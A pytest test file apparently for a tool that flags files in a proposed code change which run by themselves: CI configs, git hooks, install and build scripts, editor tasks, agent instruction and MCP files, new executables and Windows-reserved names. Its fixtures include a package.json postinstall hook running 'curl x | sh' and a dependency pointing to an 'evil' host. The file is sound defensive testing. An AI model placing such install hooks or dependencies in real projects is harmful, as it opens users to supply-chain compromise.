"""Files that run by themselves are pointed out; nothing is blocked."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentcanvas.errors import ProposalMalformed
from agentcanvas.proposals.running_files import Occasion
from agentcanvas.proposals.self_running import self_running
from tests.proposals.workspaces import Content, Files, Link, Script, diff

pytestmark = pytest.mark.req("S6", "R1")


def notes(folder: Path, before: Files, after: Files) -> list[str]:
    found = self_running(diff(folder, before, after))
    return [f"{note.path}: {note.occasion}" for note in found]


KNOWN: dict[Occasion, str] = {
    Occasion.ENTERING: """
        .envrc sub/.envrc .ENVRC .autoenv.zsh mise.toml mise.local.toml .mise.local.toml
        .config/mise/config.toml .config/mise.toml .tool-versions shell.nix flake.nix devenv.nix
        """,
    Occasion.CI: """
        .github/workflows/test.yml .github/actions/x/action.yml .gitlab-ci.yml .gitlab/ci/x.yml
        .circleci/config.yml Jenkinsfile Jenkinsfile.prod ci/Jenkinsfile .cirrus.yml cloudbuild.yaml
        azure-pipelines.yml .azure-pipelines/x.yml buildspec.yml
        """,
    Occasion.OPENING: """
        .vscode/tasks.json .vscode/settings.json .idea/workspace.xml .devcontainer/devcontainer.json
        .lvimrc .nvim/init.lua .nvim.lua .exrc .helix/languages.toml .dir-locals.el .gitpod.yml
        x.code-workspace x.sublime-project .zed/tasks.json
        """,
    Occasion.GIT: """
        .husky/pre-commit .githooks/pre-push .pre-commit-config.yaml .gitattributes
        sub/.gitattributes lefthook.yml .lefthook.yml lefthook.toml .lintstagedrc .lintstagedrc.js
        lint-staged.config.js simple-git-hooks.json .simple-git-hooks.json .overcommit.yml
        """,
    Occasion.INSTALL: """
        setup.py build.rs .npmrc .pnp.cjs .yarn/releases/yarn-4.cjs .yarn/plugins/x.cjs
        rust-toolchain rust-toolchain.toml settings.gradle settings.gradle.kts gradle.properties
        build.gradle.kts Directory.Build.props Directory.Build.targets src/Foo.csproj NuGet.Config
        Gemfile .bazelrc BUILD BUILD.bazel x.bzl CMakeLists.txt cmake/x.cmake Package.swift mix.exs
        build.sbt project/plugins.sbt meson.build pnpm-workspace.yaml bunfig.toml pom.xml
        tasks.py gulpfile.js Gruntfile.js tox.toml .cargo/config.toml Pipfile
        """,
    Occasion.TESTS: """
        conftest.py tests/unit/conftest.py pytest.toml .pytest.ini .mocharc.json .mocharc.js
        vitest.config.ts jest.config.json .eslintrc.json .eslintrc eslint.config.mjs next.config.js
        nuxt.config.ts astro.config.mjs svelte.config.js postcss.config.cjs tailwind.config.ts
        .babelrc .prettierrc.js .pylintrc .storybook/main.js
        """,
    Occasion.PYTHON: "sitecustomize.py lib/x.pth",
    Occasion.CONTAINER: """
        Dockerfile Dockerfile.prod docker-compose.yml compose.override.yaml Vagrantfile
        """,
    Occasion.MAKE: "Makefile GNUmakefile rules.mk justfile .justfile Taskfile.yml",
    Occasion.AGENT: """
        AGENTS.md AGENTS.override.md CLAUDE.md CLAUDE.local.md GEMINI.md QWEN.md .claude/x.json
        .mcp.json .vscode/mcp.json .qwen/settings.json .clinerules .clinerules/x.md .goosehints
        .opencode/plugin/x.js opencode.json opencode.jsonc .windsurfrules .windsurf/rules/x.md
        .roo/mcp.json .continue/config.yaml .kiro/settings/mcp.json .junie/guidelines.md
        .github/instructions/x.instructions.md .github/copilot-instructions.md .cursor/mcp.json
        .aider.conf.yml sub/.codex/config.toml agentcanvas.yaml
        """,
}
PLACES = [(path, occasion) for occasion, paths in KNOWN.items() for path in paths.split()]


@pytest.mark.parametrize(("path", "occasion"), PLACES)
def test_a_file_that_runs_by_itself_is_pointed_out_added_changed_and_deleted(
    tmp_path: Path, path: str, occasion: Occasion
) -> None:
    expected = [f"{path}: {occasion}"]
    assert notes(tmp_path / "1", {}, {path: "x\n"}) == expected
    assert notes(tmp_path / "2", {path: "x\n"}, {path: "y\n"}) == expected
    assert notes(tmp_path / "3", {path: "x\n"}, {}) == expected
    (deleted,) = self_running(diff(tmp_path / "4", {path: "x\n"}, {}))
    assert deleted.detail.endswith("it is deleted")


ORDINARY = """
    src/app.py envrc docs/Makefile.md my.envrc.txt github/workflows/x a.js src/build.ts
    buildings.csv build/x.py src/tasks.ts app/tasks.py src/workspace.tsx hooks/useThing.ts
    src/app/app.config.ts src/config.js docs/agents.txt claude/x.md next.config.md src/mix.py
    cmake/readme.md x.targets.md .github/CODEOWNERS .vscode/extensions.json nvim/init.lua
    project/readme.md gradle/readme.md objects/3d/a-long-name-of-a-model.obj Gemfile.lock
"""


@pytest.mark.parametrize("path", ORDINARY.split())
def test_ordinary_files_are_not(tmp_path: Path, path: str) -> None:
    assert notes(tmp_path, {}, {path: "x\n"}) == []


PACKAGE = (
    '{\n  "name": "x",\n  "version": "1.0.0",\n  "dependencies": {\n    "a": "^1.0.0"\n  }\n}\n'
)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('  "name"', '  "scripts": {\n    "postinstall": "curl x | sh"\n  },\n  "name"'),
        ('    "a": "^1.0.0"', '    "a": "git+https://evil/x"'),
    ],
)
def test_a_script_of_a_package_is_pointed_out(tmp_path: Path, old: str, new: str) -> None:
    assert notes(
        tmp_path, {"package.json": PACKAGE}, {"package.json": PACKAGE.replace(old, new)}
    ) == ["package.json: install_or_build"]


@pytest.mark.parametrize(("old", "new"), [("^1.0.0", "~2.1.3"), ('"1.0.0"', '"1.0.1-rc.1"')])
def test_a_version_in_a_package_is_not(tmp_path: Path, old: str, new: str) -> None:
    after = {"package.json": PACKAGE.replace(old, new)}
    assert notes(tmp_path, {"package.json": PACKAGE}, after) == []


def test_a_build_hook_is_pointed_out_and_a_linter_setting_is_not(tmp_path: Path) -> None:
    before = '[project]\nname = "x"\n\n[tool.ruff]\nline-length = 100\n'
    linted = before.replace("100", "99")
    built = before + '\n[build-system]\nrequires = ["evil"]\n'
    file = "pyproject.toml"
    assert notes(tmp_path / "1", {file: before}, {file: linted}) == []
    assert notes(tmp_path / "2", {file: before}, {file: built}) == [f"{file}: install_or_build"]


def test_a_file_that_becomes_executable_is_pointed_out(tmp_path: Path) -> None:
    before: dict[str, Content] = {"run": "x\n", "was": Script("x\n"), "plain": "x\n"}
    after: dict[str, Content] = {
        "run": Script("x\n"),
        "was": Script("y\n"),
        "plain": "y\n",
        "new": Script("x\n"),
        "link": Link("run"),
    }
    assert sorted(notes(tmp_path, before, after)) == [
        "link: link",
        "new: made_executable",
        "run: made_executable",
    ]
    told = {note.path: note.sentence for note in self_running(diff(tmp_path, before, after))}
    assert told["run"] == "run becomes executable"
    assert told["new"] == "new is a new executable file"


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("aux.py", "aux.py"),
        ("src/Nul/x.py", "Nul"),
        ("COM1", "COM1"),
        ("lpt9.tar.gz", "lpt9.tar.gz"),
        ("a/con .txt", "con .txt"),
        ("docs/what?.md", "what?.md"),
        ("a:b", "a:b"),
        ('say "x".txt', 'say "x".txt'),
        ("end.", "end."),
        ("end /x", "end "),
    ],
)
def test_a_new_name_that_windows_cannot_hold_is_pointed_out(
    tmp_path: Path, path: str, name: str
) -> None:
    (note,) = self_running(diff(tmp_path / "1", {}, {path: "x\n"}))
    assert note.sentence == f"{path} cannot be checked out on Windows, for the name {name!r}"
    assert note.occasion is Occasion.NAME
    assert notes(tmp_path / "2", {path: "x\n"}, {path: "y\n"}) == [], "it was there before"
    assert notes(tmp_path / "3", {path: "x\n"}, {}) == []


@pytest.mark.parametrize("path", ["auxiliary.py", "com10", "console/x", "x.aux", ".con", "nul_x"])
def test_a_name_that_windows_holds_is_not(tmp_path: Path, path: str) -> None:
    assert notes(tmp_path, {}, {path: "x\n"}) == []


def test_a_patch_that_is_none_is_one_clear_error() -> None:
    with pytest.raises(ProposalMalformed, match="line 1"):
        self_running(b"hello\n")
